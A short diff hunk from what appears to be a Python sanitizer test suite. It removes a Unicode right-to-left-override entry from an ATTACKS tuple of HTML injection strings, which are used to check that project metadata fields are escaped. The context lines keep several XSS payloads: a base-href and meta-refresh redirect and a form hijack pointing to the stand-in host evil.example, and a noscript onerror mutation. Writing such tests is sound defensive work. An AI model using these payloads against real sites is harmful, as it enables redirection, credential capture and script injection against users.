@@ -390,7 +390,6 @@ ATTACKS = (
     "<base href=//evil.example/><meta http-equiv=refresh content=0>",
     "<form action=//evil.example><button formaction=//evil.example>",
     "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
-    "\N{RIGHT-TO-LEFT OVERRIDE}<b>\N{ZERO WIDTH SPACE}</b>",
 )
 _PLAIN_FIELDS = {
     "content/project.yaml": ("title", "subtitle", "publisher", "contact"),
